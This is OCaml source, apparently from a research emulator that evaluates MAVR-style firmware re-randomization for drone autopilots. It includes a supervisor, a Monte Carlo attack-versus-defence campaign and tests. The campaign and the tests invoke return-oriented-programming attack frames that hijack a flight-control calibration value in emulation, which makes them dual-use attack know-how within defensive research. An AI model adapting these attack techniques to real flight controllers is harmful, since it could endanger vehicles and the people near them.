    events = [];
    attacks = 0;
    pages_programmed = 0;
    peak_ws = 0;
  }

let provision t image = Flash.program t.ext_flash (Symtab.to_hex image)

let stored_hex t = Flash.read t.ext_flash ~pos:0 ~len:(Flash.content_length t.ext_flash)

let read_stored_image t =
  let hex = stored_hex t in
  if String.length hex = 0 then invalid_arg "Master: not provisioned";
  Symtab.of_hex hex

let startup_overhead_ms t bytes = Serial.programming_ms t.config.link bytes

(* Run the §VI-B3 streaming pipeline: draw a permutation, stream the
   patched binary page by page (here collected back into an image for the
   emulated application processor), and account for the pages programmed
   and the randomizer's working set. *)
let randomize_streaming t stored =
  let page_bytes = Mavr_avr.Device.atmega2560.flash_page_bytes in
  let image, stats = Stream_patch.randomize_image_rng ~rng:t.rng stored ~page_bytes in
  t.pages_programmed <- t.pages_programmed + stats.Stream_patch.pages_emitted;
  t.peak_ws <- max t.peak_ws stats.Stream_patch.peak_working_set;
  image

(* Program the application processor: stream the (randomized) binary
   through the bootloader and restart it. *)
let program_app t ~app image =
  Cpu.load_program app image.Image.code;
  t.reflashes <- t.reflashes + 1;
  t.last_overhead_ms <- startup_overhead_ms t (Image.size image);
  t.current <- Some image

let boot t ~app =
  let stored = read_stored_image t in
  t.boots <- t.boots + 1;
  let randomize =
    t.config.randomize_every_boots <= 1
    || (t.boots - 1) mod t.config.randomize_every_boots = 0
    || t.current = None
  in
  let image =
    if randomize then randomize_streaming t stored
    else match t.current with Some img -> img | None -> assert false
  in
  program_app t ~app image;
  Log.info (fun m ->
      m "boot #%d: %s layout, %.0f ms startup overhead" t.boots
        (if randomize then "fresh randomized" else "cached")
        t.last_overhead_ms);
  t.events <- Booted { boot = t.boots; randomized = randomize; overhead_ms = t.last_overhead_ms } :: t.events

let current_image t =
  match t.current with Some img -> img | None -> invalid_arg "Master: application not booted"

let boots t = t.boots
let reflashes t = t.reflashes
let last_overhead_ms t = t.last_overhead_ms
let events t = List.rev t.events
let attacks_detected t = t.attacks
let pages_programmed t = t.pages_programmed
let peak_working_set t = t.peak_ws

let rerandomize_after_attack t ~app ~reason =
  Log.warn (fun m -> m "failed attack detected (%s); re-randomizing" reason);
  t.attacks <- t.attacks + 1;
  t.events <- Attack_detected { at_cycles = Cpu.cycles app; reason } :: t.events;
  let stored = read_stored_image t in
  let image = randomize_streaming t stored in
  program_app t ~app image;
  t.events <- Reflashed { generation = t.reflashes; overhead_ms = t.last_overhead_ms } :: t.events

let check_and_recover t ~app =
  match Cpu.halted app with
  | Some h ->
      rerandomize_after_attack t ~app ~reason:(Format.asprintf "%a" Cpu.pp_halt h);
      true
  | None ->
      if Cpu.cycles app - Cpu.last_feed_cycles app > t.config.watchdog_window_cycles then begin
        rerandomize_after_attack t ~app ~reason:"watchdog feed silence";
        true
      end
      else false

let supervise t ~app ~cycles =
  (* Count the budget locally: a recovery resets the application's cycle
     counter, which must not extend the supervision window. *)
  let detected0 = t.attacks in
  let remaining = ref cycles in
  while !remaining > 0 do
    let slice = min 1_000 !remaining in
    let before = Cpu.cycles app in
    ignore (Cpu.run_until_halt app ~max_cycles:slice);
    let ran = Cpu.cycles app - before in
    remaining := !remaining - max 1 (if ran >= 0 then ran else slice);
    ignore (check_and_recover t ~app)
  done;
  t.attacks - detected0
