module Cpu = Mavr_avr.Cpu
module Image = Mavr_obj.Image
module F = Mavr_firmware
module Rop = Mavr_core.Rop
module Randomize = Mavr_core.Randomize
module Master = Mavr_core.Master
module Metrics = Mavr_telemetry.Metrics
module Json = Mavr_telemetry.Json
module Splitmix = Mavr_prng.Splitmix
module Engine = Mavr_campaign.Engine
module Fault = Mavr_fault

type defense = Undefended | Software_only | Mavr_defense
type attack = V1 | V2 | V3

let defenses = [| Undefended; Software_only; Mavr_defense |]
let attacks = [| V1; V2; V3 |]
let defense_name = function Undefended -> "undefended" | Software_only -> "software_only" | Mavr_defense -> "mavr"
let attack_name = function V1 -> "v1" | V2 -> "v2" | V3 -> "v3"

(* The value every attack tries to plant in the gyro calibration — the
   paper's §IV-C "continuous effect" target. *)
let hijack_value = 0x4141

type outcome = {
  takeover : bool;
  detected : bool;
  halted : bool;
  detect_ms : float option;  (** ms from injection to first detection *)
  gcs_alarm_count : int;
  master_detections : int;
}

type cell = {
  defense : defense;
  attack : attack;
  trials : int;
  takeovers : int;
  detections : int;
  halts : int;
  detect_n : int;
  detect_ms_sum : float;
  detect_ms_max : float;
}

(* Control flights: same posture, same faults, no attack.  Anything the
   pipeline flags here is a false alarm, so these rows are the
   denominator of the §VII-A detection claims under noise. *)
type control = {
  posture : defense;
  flights : int;
  alarmed : int;
  alarms_total : int;
  recoveries : int;
  crashed : int;
  first_alarm_n : int;
  first_alarm_ms_sum : float;
}

type level_result = {
  level : Fault.Profile.level;
  cells : cell array;  (** 9 cells, defense-major then attack order *)
  controls : control array;  (** one per defense, same order *)
}

type t = {
  seed : int;
  trials : int;
  ms : int;
  profile : string;  (** fault profile name *)
  levels : level_result array;  (** one per profile level; [0] is clean *)
  metrics : Metrics.registry;  (** all per-trial worker registries, merged *)
}

(* ---- one trial ----------------------------------------------------- *)

let gyro_cfg cpu =
  Cpu.data_peek cpu F.Layout.gyro_cfg lor (Cpu.data_peek cpu (F.Layout.gyro_cfg + 1) lsl 8)

let detected_now s =
  (match Scenario.master s with Some m -> Master.attacks_detected m > 0 | None -> false)
  || Groundstation.attack_suspected (Scenario.gcs s)

let trial ~image ~inject ~defense ~level ~ms ~rng =
  (* The fault seed is drawn first, unconditionally, so the remaining
     stream (layout seed, master seed) is the same whether or not this
     level actually arms the injector. *)
  let fault_seed = Splitmix.next rng in
  let faults =
    if Fault.Profile.level_is_off level then None
    else Some (Fault.Injector.create ~seed:fault_seed level)
  in
  let image, kind =
    match defense with
    | Undefended -> (image, Scenario.No_defense)
    | Software_only ->
        (* §VIII-A: diversified once at flash time, no master watching. *)
        (Randomize.randomize ~seed:(Splitmix.next rng) image, Scenario.No_defense)
    | Mavr_defense ->
        ( image,
          Scenario.Mavr
            {
              Master.default_config with
              watchdog_window_cycles = 20_000;
              seed = Splitmix.next rng;
            } )
  in
  let s = Scenario.create ?faults ~image kind in
  let registry = Metrics.create () in
  let (_ : Mavr_avr.Probes.t) = Scenario.attach_telemetry s ~registry in
  let warmup = max 1 (ms / 3) in
  Scenario.run s ~ms:(float_of_int warmup);
  (match inject with Some frames -> Scenario.inject s frames | None -> ());
  (* Advance in small slices so the first detection gets a timestamp
     (resolution = [step] simulated ms). *)
  let step = 5 in
  let detect_ms = ref None in
  let remaining = ref (max 1 (ms - warmup)) in
  while !remaining > 0 do
    let slice = min step !remaining in
    Scenario.run s ~ms:(float_of_int slice);
    remaining := !remaining - slice;
    if !detect_ms = None && detected_now s then
      detect_ms := Some (Scenario.now_ms s -. float_of_int warmup)
  done;
  let outcome =
    {
      takeover = gyro_cfg (Scenario.app s) = hijack_value;
      detected = detected_now s;
      halted = Cpu.halted (Scenario.app s) <> None;
      detect_ms = !detect_ms;
      gcs_alarm_count = List.length (Groundstation.alarms (Scenario.gcs s));
      master_detections =
        (match Scenario.master s with Some m -> Master.attacks_detected m | None -> 0);
    }
  in
  (outcome, registry)

(* ---- the grid ------------------------------------------------------- *)

let attack_frames ti obs =
  let writes = [ Rop.write_u16 obs ~addr:F.Layout.gyro_cfg ~value:hijack_value ~neighbour:0 ] in
  function
  | V1 -> Rop.v1_basic ti obs ~writes
  | V2 -> Rop.v2_stealthy ti obs ~writes
  | V3 -> Rop.v3_execute ti obs ~chain_dest:F.Layout.free_region ~writes

let run ?pool ?jobs ?(ms = 900) ?(faults = Fault.Profile.none) ~seed ~trials
    (build : F.Build.t) =
  if trials < 0 then invalid_arg "Montecarlo.run: negative trial count";
  let image = build.F.Build.image in
  (* The attacker's static + dynamic analysis of the unprotected binary
     happens once, in the coordinator; the resulting frames are immutable
     strings shared read-only by every trial. *)
  let ti = Rop.analyze build in
  let obs = Rop.observe ti in
  let frames = Array.map (attack_frames ti obs) attacks in
  let nd = Array.length defenses and na = Array.length attacks in
  let nlevels = Array.length faults.Fault.Profile.levels in
  (* Task layout, fixed and index-addressed for jobs-invariance: for
     each fault level, the nd*na*trials attack grid followed by
     nd*trials attack-free control flights. *)
  let grid_tasks = nd * na * trials in
  let per_level = grid_tasks + (nd * trials) in
  let tasks = nlevels * per_level in
  let results =
    Engine.map ?pool ?jobs ~seed ~tasks (fun ~index ~rng ->
        let level = faults.Fault.Profile.levels.(index / per_level) in
        let rem = index mod per_level in
        if rem < grid_tasks then
          let defense = defenses.(rem / (na * trials)) in
          let attack_i = rem / trials mod na in
          trial ~image ~inject:(Some frames.(attack_i)) ~defense ~level ~ms ~rng
        else
          let defense = defenses.((rem - grid_tasks) / trials) in
          trial ~image ~inject:None ~defense ~level ~ms ~rng)
  in
  let metrics = Metrics.create () in
  Array.iter (fun (_, r) -> Metrics.merge ~into:metrics r) results;
  let fold base n f init = Array.fold_left f init (Array.init n (fun k -> fst results.(base + k))) in
  let cell l d a =
    let base = (l * per_level) + (((d * na) + a) * trials) in
    let fold f init = fold base trials f init in
    {
      defense = defenses.(d);
      attack = attacks.(a);
      trials;
      takeovers = fold (fun n o -> if o.takeover then n + 1 else n) 0;
      detections = fold (fun n o -> if o.detected then n + 1 else n) 0;
      halts = fold (fun n o -> if o.halted then n + 1 else n) 0;
      detect_n = fold (fun n o -> if o.detect_ms <> None then n + 1 else n) 0;
      detect_ms_sum = fold (fun s o -> s +. Option.value ~default:0.0 o.detect_ms) 0.0;
      detect_ms_max = fold (fun m o -> Float.max m (Option.value ~default:0.0 o.detect_ms)) 0.0;
    }
  in
  let control l d =
    let base = (l * per_level) + grid_tasks + (d * trials) in
    let fold f init = fold base trials f init in
    {
      posture = defenses.(d);
      flights = trials;
      alarmed = fold (fun n o -> if o.gcs_alarm_count > 0 then n + 1 else n) 0;
      alarms_total = fold (fun n o -> n + o.gcs_alarm_count) 0;
      recoveries = fold (fun n o -> n + o.master_detections) 0;
      crashed = fold (fun n o -> if o.halted then n + 1 else n) 0;
      first_alarm_n = fold (fun n o -> if o.detect_ms <> None then n + 1 else n) 0;
      first_alarm_ms_sum = fold (fun s o -> s +. Option.value ~default:0.0 o.detect_ms) 0.0;
    }
  in
  let levels =
    Array.init nlevels (fun l ->
        {
          level = faults.Fault.Profile.levels.(l);
          cells = Array.init (nd * na) (fun i -> cell l (i / na) (i mod na));
          controls = Array.init nd (fun d -> control l d);
        })
  in
  { seed; trials; ms; profile = faults.Fault.Profile.name; levels; metrics }

let cells t = t.levels.(0).cells

let level_takeovers lr defense =
  Array.fold_left (fun n c -> if c.defense = defense then n + c.takeovers else n) 0 lr.cells

let level_detections lr defense =
  Array.fold_left (fun n c -> if c.defense = defense then n + c.detections else n) 0 lr.cells

let takeovers t defense =
  Array.fold_left (fun n lr -> n + level_takeovers lr defense) 0 t.levels

let detections t defense =
  Array.fold_left (fun n lr -> n + level_detections lr defense) 0 t.levels

let mean_detect_ms c = if c.detect_n = 0 then 0.0 else c.detect_ms_sum /. float_of_int c.detect_n

let false_alarm_rate c =
  if c.flights = 0 then 0.0 else float_of_int c.alarmed /. float_of_int c.flights

let cell_to_json c =
  Json.Obj
    [
      ("defense", Json.String (defense_name c.defense));
      ("attack", Json.String (attack_name c.attack));
      ("trials", Json.Int c.trials);
      ("takeovers", Json.Int c.takeovers);
      ("detections", Json.Int c.detections);
      ("halts", Json.Int c.halts);
      ("detect_n", Json.Int c.detect_n);
      ("detect_ms_mean", Json.Float (mean_detect_ms c));
      ("detect_ms_max", Json.Float c.detect_ms_max);
    ]

let control_to_json c =
  Json.Obj
    [
      ("defense", Json.String (defense_name c.posture));
      ("flights", Json.Int c.flights);
      ("alarmed", Json.Int c.alarmed);
      ("alarms_total", Json.Int c.alarms_total);
      ("recoveries", Json.Int c.recoveries);
      ("crashed", Json.Int c.crashed);
      ("false_alarm_rate", Json.Float (false_alarm_rate c));
      ( "first_alarm_ms_mean",
        Json.Float
          (if c.first_alarm_n = 0 then 0.0
           else c.first_alarm_ms_sum /. float_of_int c.first_alarm_n) );
    ]

let level_to_json lr =
  Json.Obj
    [
      ("level", Json.String lr.level.Fault.Profile.name);
      ("grid", Json.List (Array.to_list (Array.map cell_to_json lr.cells)));
      ("controls", Json.List (Array.to_list (Array.map control_to_json lr.controls)));
    ]

let to_json ?(with_metrics = true) t =
  Json.Obj
    ([
       ("seed", Json.Int t.seed);
       ("trials_per_cell", Json.Int t.trials);
       ("flight_ms", Json.Int t.ms);
       ("fault_profile", Json.String t.profile);
       ("levels", Json.List (Array.to_list (Array.map level_to_json t.levels)));
       ("grid", Json.List (Array.to_list (Array.map cell_to_json (cells t))));
     ]
    @ if with_metrics then [ ("metrics", Metrics.to_json t.metrics) ] else [])

let pp fmt t =
  Format.fprintf fmt
    "@[<v>Monte Carlo campaign: %d trials/cell, %d ms flights, seed %d, faults %s@," t.trials
    t.ms t.seed t.profile;
  Array.iter
    (fun lr ->
      Format.fprintf fmt "  fault level: %s@," lr.level.Fault.Profile.name;
      Format.fprintf fmt "  %-14s %-4s %9s %10s %6s %15s@," "defense" "atk" "takeovers"
        "detections" "halts" "mean-detect-ms";
      Array.iter
        (fun c ->
          Format.fprintf fmt "  %-14s %-4s %5d/%-3d %6d/%-3d %6d %15.1f@,"
            (defense_name c.defense) (attack_name c.attack) c.takeovers c.trials c.detections
            c.trials c.halts (mean_detect_ms c))
        lr.cells;
      Array.iter
        (fun c ->
          Format.fprintf fmt "  %-14s ctrl %d/%d flights alarmed (%.2f false-alarm rate), %d recoveries, %d crashed@,"
            (defense_name c.posture) c.alarmed c.flights (false_alarm_rate c) c.recoveries
            c.crashed)
        lr.controls)
    t.levels;
  Format.fprintf fmt "@]"
