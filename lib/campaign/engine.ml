module Splitmix = Mavr_prng.Splitmix

let task_seeds ~seed ~tasks =
  if tasks < 0 then invalid_arg "Campaign.Engine.task_seeds: negative task count";
  let root = Splitmix.create ~seed in
  (* One split per task, drawn sequentially in the coordinator: the
     schedule depends only on (seed, index), never on [jobs].  Seeds are
     spread over the 63-bit space, so independent campaigns (different
     roots) never silently rerun each other's layouts the way the old
     hardcoded [i + 1] seeds did. *)
  Array.init tasks (fun _ -> Splitmix.next (Splitmix.split root))

let run_tasks ?pool ?jobs ~tasks body =
  match pool with
  | Some p -> Pool.run p ~tasks body
  | None -> Pool.with_pool ?jobs (fun p -> Pool.run p ~tasks body)

module Span = Mavr_telemetry.Span
module Json = Mavr_telemetry.Json

let map ?pool ?jobs ?tracer ?(task_name = Printf.sprintf "task-%04d") ?progress ~seed ~tasks f =
  let seeds = task_seeds ~seed ~tasks in
  let results = Array.make tasks None in
  Option.iter (fun p -> Progress.add_total p tasks) progress;
  let body i =
    let compute () =
      results.(i) <- Some (f ~index:i ~rng:(Splitmix.create ~seed:seeds.(i)))
    in
    (match tracer with
    | None -> compute ()
    | Some tr ->
        (* One lane per task, sorted by index: lane content depends only
           on (seed, index), so the stripped trace is jobs-invariant. *)
        let lane = Span.lane tr ~sort:i (task_name i) in
        Span.span lane
          ~args:[ ("index", Json.Int i); ("seed", Json.Int seeds.(i)) ]
          "task" compute);
    Option.iter Progress.task_done progress
  in
  run_tasks ?pool ?jobs ~tasks body;
  Array.map (function Some v -> v | None -> assert false) results

let map_reduce ?pool ?jobs ?tracer ?task_name ?progress ~seed ~tasks ~map:f ~reduce init =
  Array.fold_left reduce init (map ?pool ?jobs ?tracer ?task_name ?progress ~seed ~tasks f)
