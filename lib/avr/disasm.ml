type line = { byte_addr : int; insn : Isa.t; size_bytes : int }

let sweep ?(pos = 0) ?len code =
  let len = match len with Some l -> l | None -> String.length code - pos in
  List.rev
    (Decode.fold_program code ~pos ~len
       (fun acc byte_addr insn ->
         let _, size = Decode.decode_bytes code byte_addr in
         { byte_addr; insn; size_bytes = size } :: acc)
       [])

let decode_words ?(pos = 0) ?len code =
  let len = match len with Some l -> l | None -> String.length code - pos in
  Array.init (len / 2) (fun i -> Decode.decode_bytes code (pos + (2 * i)))

let pp_line fmt { byte_addr; insn; _ } = Format.fprintf fmt "%6x:\t%a" byte_addr Isa.pp insn

let listing ?pos ?len code =
  let lines = sweep ?pos ?len code in
  let buf = Buffer.create 1024 in
  List.iter (fun l -> Buffer.add_string buf (Format.asprintf "%a\n" pp_line l)) lines;
  Buffer.contents buf
