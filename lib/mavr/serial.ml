type t = {
  baud : int;
  bits_per_byte : int;
  page_write_ms : float;
  page_bytes : int;
  patch_overhead_ms_per_kb : float;
}

let prototype =
  { baud = 115200; bits_per_byte = 10; page_write_ms = 4.0; page_bytes = 256; patch_overhead_ms_per_kb = 0.0 }

let production = { prototype with baud = 4_000_000 }

let bytes_per_ms t = float_of_int t.baud /. float_of_int t.bits_per_byte /. 1000.0

let transfer_ms t bytes = float_of_int bytes /. bytes_per_ms t

let flash_ms t bytes =
  let pages = (bytes + t.page_bytes - 1) / t.page_bytes in
  float_of_int pages *. t.page_write_ms

let patch_ms t bytes = float_of_int bytes /. 1024.0 *. t.patch_overhead_ms_per_kb

(* The bootloader writes page k while page k+1 streams in, so the phases
   pipeline: total ≈ max of the two, plus master-side patch compute. *)
let programming_ms t bytes = patch_ms t bytes +. Float.max (transfer_ms t bytes) (flash_ms t bytes)
