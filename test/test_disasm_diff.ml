(* Differential test: the linear-sweep disassembler must agree with the
   raw decoder on instruction boundaries and lengths over the full .text
   of all three paper profiles — the same agreement the CPU's predecode
   relies on, established here over real-size images. *)

module Disasm = Mavr_avr.Disasm
module Decode = Mavr_avr.Decode
module Image = Mavr_obj.Image
module F = Mavr_firmware

let profiles =
  [ ("arduplane", F.Profile.arduplane);
    ("arducopter", F.Profile.arducopter);
    ("ardurover", F.Profile.ardurover) ]

let check_region name code ~pos ~len =
  let lines = Disasm.sweep ~pos ~len code in
  (* Every line matches a raw decode at the same address... *)
  let cursor = ref pos in
  List.iter
    (fun (l : Disasm.line) ->
      Alcotest.(check int)
        (Printf.sprintf "%s: boundary at 0x%x" name !cursor)
        !cursor l.byte_addr;
      let insn, size = Decode.decode_bytes code l.byte_addr in
      Alcotest.(check bool)
        (Printf.sprintf "%s: same decode at 0x%x" name l.byte_addr)
        true
        (insn = l.insn && size = l.size_bytes);
      cursor := !cursor + l.size_bytes)
    lines;
  (* ...and the sweep covers the region end to end with no gap. *)
  Alcotest.(check int) (Printf.sprintf "%s: full coverage" name) (pos + len) !cursor

let test_profile (name, profile) () =
  let b = F.Build.build profile F.Profile.mavr in
  let img = b.F.Build.image in
  check_region name img.Image.code ~pos:0 ~len:img.exec_low_end;
  check_region name img.Image.code ~pos:img.text_start
    ~len:(img.text_end - img.text_start)

let test_decode_words_agrees () =
  (* decode_words at even offsets must equal decode_bytes there — it is
     the static cousin of the CPU's per-word predecode. *)
  let img = (Helpers.build_mavr ()).image in
  let words = Disasm.decode_words img.Image.code in
  Array.iteri
    (fun i (insn, size) ->
      let insn', size' = Decode.decode_bytes img.Image.code (2 * i) in
      if insn <> insn' || size <> size' then
        Alcotest.failf "decode_words diverges at 0x%x" (2 * i))
    words

let () =
  Alcotest.run "disasm-diff"
    [
      ( "sweep-vs-decode",
        List.map
          (fun p -> Alcotest.test_case (fst p) `Slow (test_profile p))
          profiles
        @ [ Alcotest.test_case "decode_words differential" `Quick test_decode_words_agrees ] );
    ]
