lib/mavr/serial.ml: Float
