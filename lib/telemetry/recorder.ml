type kind = Point | Span_begin | Span_end

type event = { cycle : int; kind : kind; name : string; value : int }

(* Fixed-capacity ring: [buf.(head)] is the slot the next event lands in,
   so once full the writer overwrites the oldest entry in O(1) — the
   flight recorder must cost the same whether it has run for a thousand
   cycles or a billion. *)
type t = {
  buf : event array;
  mutable head : int;
  mutable len : int;
  mutable total : int;
}

let nil_event = { cycle = 0; kind = Point; name = ""; value = 0 }

let create ~capacity =
  if capacity <= 0 then invalid_arg "Telemetry.Recorder.create: capacity must be positive";
  { buf = Array.make capacity nil_event; head = 0; len = 0; total = 0 }

let capacity t = Array.length t.buf
let length t = t.len
let total_recorded t = t.total

let record t ~cycle ?(kind = Point) ?(value = 0) name =
  let cap = Array.length t.buf in
  t.buf.(t.head) <- { cycle; kind; name; value };
  t.head <- (t.head + 1) mod cap;
  if t.len < cap then t.len <- t.len + 1;
  t.total <- t.total + 1

let span_begin t ~cycle ?(value = 0) name = record t ~cycle ~kind:Span_begin ~value name
let span_end t ~cycle ?(value = 0) name = record t ~cycle ~kind:Span_end ~value name

let clear t =
  t.head <- 0;
  t.len <- 0;
  t.total <- 0

let events t =
  let cap = Array.length t.buf in
  let start = (t.head - t.len + cap) mod cap in
  List.init t.len (fun i -> t.buf.((start + i) mod cap))

let kind_name = function Point -> "point" | Span_begin -> "begin" | Span_end -> "end"

let pp_event fmt e =
  match e.kind with
  | Point -> Format.fprintf fmt "[%10d] %-24s 0x%x" e.cycle e.name e.value
  | Span_begin -> Format.fprintf fmt "[%10d] >> %-21s %d" e.cycle e.name e.value
  | Span_end -> Format.fprintf fmt "[%10d] << %-21s %d" e.cycle e.name e.value

let pp_dump fmt t =
  let dropped = t.total - t.len in
  if dropped > 0 then
    Format.fprintf fmt "  (%d earlier events overwritten; ring capacity %d)@." dropped
      (capacity t);
  List.iter (fun e -> Format.fprintf fmt "  %a@." pp_event e) (events t)

let event_to_json e =
  Json.Obj
    [
      ("cycle", Json.Int e.cycle);
      ("kind", Json.String (kind_name e.kind));
      ("name", Json.String e.name);
      ("value", Json.Int e.value);
    ]

let to_json t =
  Json.Obj
    [
      ("capacity", Json.Int (capacity t));
      ("total_recorded", Json.Int t.total);
      ("events", Json.List (List.map event_to_json (events t)));
    ]
