(* Tests for the substrate extensions: the EEPROM peripheral and
   persistent configuration, the bit-manipulation/skip instructions, ELPM
   for >64 KB flash, the shadow-stack runtime-monitoring baseline (the
   §IX comparison), and the padding-entropy analysis (§VIII-B). *)

module Cpu = Mavr_avr.Cpu
module Isa = Mavr_avr.Isa
module Io = Mavr_avr.Device.Io
module Opcode = Mavr_avr.Opcode
module Decode = Mavr_avr.Decode
module Image = Mavr_obj.Image
module F = Mavr_firmware
module Rop = Mavr_core.Rop
module Master = Mavr_core.Master

let load insns =
  let cpu = Cpu.create () in
  Cpu.load_program cpu (String.concat "" (List.map Opcode.encode_bytes insns));
  cpu

let run_all cpu = ignore (Cpu.run cpu ~max_cycles:100_000)

(* ---- new instructions ---- *)

let test_bst_bld () =
  (* Copy bit 3 of r16 into bit 6 of r17 via the T flag. *)
  let cpu = load Isa.[ Ldi (16, 0x08); Ldi (17, 0x00); Bst (16, 3); Bld (17, 6); Break ] in
  run_all cpu;
  Alcotest.(check int) "bit copied" 0x40 (Cpu.reg cpu 17);
  let cpu = load Isa.[ Ldi (16, 0x00); Ldi (17, 0xFF); Bst (16, 3); Bld (17, 6); Break ] in
  run_all cpu;
  Alcotest.(check int) "bit cleared" 0xBF (Cpu.reg cpu 17)

let test_sbrc_sbrs () =
  let cpu = load Isa.[ Ldi (16, 0x04); Sbrc (16, 2); Ldi (17, 1); Ldi (18, 2); Break ] in
  run_all cpu;
  Alcotest.(check int) "sbrc: bit set, no skip" 1 (Cpu.reg cpu 17);
  let cpu = load Isa.[ Ldi (16, 0x00); Sbrc (16, 2); Ldi (17, 1); Ldi (18, 2); Break ] in
  run_all cpu;
  Alcotest.(check int) "sbrc: bit clear, skipped" 0 (Cpu.reg cpu 17);
  (* sbrs skipping a 2-word instruction *)
  let cpu = load Isa.[ Ldi (16, 0x80); Sbrs (16, 7); Sts (0x600, 16); Break ] in
  run_all cpu;
  Alcotest.(check int) "sbrs skipped the sts" 0 (Cpu.data_peek cpu 0x600)

let test_elpm_high_flash () =
  (* Read a byte above 64 KB via RAMPZ:Z — impossible with plain lpm. *)
  let target = 0x1_0004 in
  let prog =
    String.concat "" (List.map Opcode.encode_bytes
      Isa.[ Ldi (16, 0x02); Out (Io.rampz, 16) (* RAMPZ high... placeholder below *) ])
  in
  ignore prog;
  let insns =
    Isa.[ Ldi (16, 0x01); Out (Io.rampz, 16); Ldi (30, 0x04); Ldi (31, 0x00);
          Elpm (17, false); Break ]
  in
  let code = String.concat "" (List.map Opcode.encode_bytes insns) in
  let image = code ^ String.make (target - String.length code) '\x00' ^ "\x5A" in
  let cpu = Cpu.create () in
  Cpu.load_program cpu image;
  run_all cpu;
  Alcotest.(check int) "read flash[0x10004]" 0x5A (Cpu.reg cpu 17)

let test_elpm_postinc_carries_rampz () =
  let insns =
    Isa.[ Ldi (16, 0x00); Out (Io.rampz, 16); Ldi (30, 0xFF); Ldi (31, 0xFF);
          Elpm (17, true); Break ]
  in
  let cpu = load insns in
  run_all cpu;
  Alcotest.(check int) "RAMPZ carried" 1 (Cpu.io_peek cpu Io.rampz);
  Alcotest.(check int) "Z wrapped" 0 (Cpu.reg cpu 30 lor (Cpu.reg cpu 31 lsl 8))

let test_new_insn_roundtrip () =
  List.iter
    (fun insn ->
      let words = Opcode.encode insn in
      let w2 = match words with [ _; w ] -> w | _ -> 0 in
      let decoded, _ = Decode.decode (List.hd words) w2 in
      if not (Isa.equal decoded insn) then
        Alcotest.failf "roundtrip failed: %s -> %s" (Isa.to_string insn) (Isa.to_string decoded))
    Isa.[ Bld (5, 3); Bst (31, 7); Sbrc (0, 0); Sbrs (15, 4); Elpm0; Elpm (7, true); Elpm (7, false) ]

(* ---- EEPROM ---- *)

let test_eeprom_cpu_level () =
  let insns =
    Isa.[
      (* write 0xA7 to eeprom[0x0123] *)
      Ldi (16, 0x23); Out (Io.eearl, 16);
      Ldi (16, 0x01); Out (Io.eearh, 16);
      Ldi (16, 0xA7); Out (Io.eedr, 16);
      Sbi (Io.eecr, 1);
      (* read it back into r17 *)
      Ldi (16, 0x23); Out (Io.eearl, 16);
      Ldi (16, 0x01); Out (Io.eearh, 16);
      Sbi (Io.eecr, 0);
      In (17, Io.eedr);
      Break;
    ]
  in
  let cpu = load insns in
  run_all cpu;
  Alcotest.(check int) "readback" 0xA7 (Cpu.reg cpu 17);
  Alcotest.(check int) "host-side view" 0xA7 (Cpu.eeprom_peek cpu 0x123)

let test_eeprom_erased_reads_ff () =
  let cpu = load Isa.[ Sbi (Io.eecr, 0); In (17, Io.eedr); Break ] in
  run_all cpu;
  Alcotest.(check int) "erased cell" 0xFF (Cpu.reg cpu 17)

let cfg_save_frame value =
  Mavr_mavlink.Frame.encode
    { Mavr_mavlink.Frame.seq = 0; sysid = 255; compid = 0; msgid = 200;
      payload = Printf.sprintf "%c%c" (Char.chr (value land 0xFF)) (Char.chr ((value lsr 8) land 0xFF)) }

let gyro_cfg cpu =
  Cpu.data_peek cpu F.Layout.gyro_cfg lor (Cpu.data_peek cpu (F.Layout.gyro_cfg + 1) lsl 8)

let test_cfg_save_message () =
  let b = Helpers.build_mavr () in
  let cpu = Helpers.boot b.image in
  Alcotest.(check int) "default config 0" 0 (gyro_cfg cpu);
  Cpu.uart_send cpu (cfg_save_frame 0x0155);
  ignore (Cpu.run cpu ~max_cycles:400_000);
  Alcotest.(check int) "config applied" 0x0155 (gyro_cfg cpu);
  Alcotest.(check int) "persisted lo" 0x55 (Cpu.eeprom_peek cpu 0);
  Alcotest.(check int) "persisted hi" 0x01 (Cpu.eeprom_peek cpu 1)

let test_config_survives_reflash () =
  (* §II-B: EEPROM is a separate persistent memory — a MAVR reflash (new
     randomized flash image) must not lose the configuration. *)
  let b = Helpers.build_mavr () in
  let m = Master.create () in
  Master.provision m b.image;
  let app = Cpu.create () in
  Master.boot m ~app;
  ignore (Cpu.run app ~max_cycles:60_000);
  Cpu.uart_send app (cfg_save_frame 0x0209);
  ignore (Cpu.run app ~max_cycles:400_000);
  Alcotest.(check int) "config set" 0x0209 (gyro_cfg app);
  (* Simulate a failed attack: the master reflashes a new layout. *)
  Cpu.force_halt app (Cpu.Wild_pc 0);
  Alcotest.(check bool) "recovered" true (Master.check_and_recover m ~app);
  ignore (Cpu.run app ~max_cycles:400_000);
  Alcotest.(check int) "config survived the reflash" 0x0209 (gyro_cfg app)

(* ---- shadow-stack baseline (§IX) ---- *)

let test_shadow_stack_benign () =
  (* No false positives across a long benign run, including message
     handling. *)
  let b = Helpers.build_mavr () in
  let cpu = Cpu.create () in
  Cpu.load_program cpu b.image.Image.code;
  Cpu.enable_shadow_stack cpu ~overhead_cycles:0;
  Cpu.uart_send cpu
    (Mavr_mavlink.Frame.encode
       { Mavr_mavlink.Frame.seq = 0; sysid = 255; compid = 0; msgid = 23;
         payload = "\x01\x02\x03" });
  match Cpu.run cpu ~max_cycles:1_000_000 with
  | `Budget_exhausted -> ()
  | `Halted h -> Alcotest.failf "false positive: %s" (Format.asprintf "%a" Cpu.pp_halt h)

let test_shadow_stack_detects_rop () =
  let b, ti, obs = Helpers.attack_target () in
  let cpu = Cpu.create () in
  Cpu.load_program cpu b.image.Image.code;
  Cpu.enable_shadow_stack cpu ~overhead_cycles:0;
  ignore (Cpu.run cpu ~max_cycles:60_000);
  List.iter (Cpu.uart_send cpu)
    (Rop.v2_stealthy ti obs
       ~writes:[ Rop.write_u16 obs ~addr:F.Layout.gyro_cfg ~value:0x4000 ~neighbour:0 ]);
  (match Cpu.run cpu ~max_cycles:3_000_000 with
  | `Halted (Cpu.Rop_detected _) -> ()
  | r -> Alcotest.failf "expected shadow-stack detection, got %s" (Helpers.run_result_to_string r));
  (* ... and it stops the attack before the write. *)
  Alcotest.(check bool) "write blocked" false (gyro_cfg cpu = 0x4000)

let test_shadow_stack_overhead_measurable () =
  (* The §IX trade-off: instrumenting every call/ret costs cycles the
     96 %-loaded APM does not have; MAVR costs nothing at runtime. *)
  let b = Helpers.build_mavr () in
  let loop_cycles overhead =
    let cpu = Cpu.create () in
    Cpu.load_program cpu b.image.Image.code;
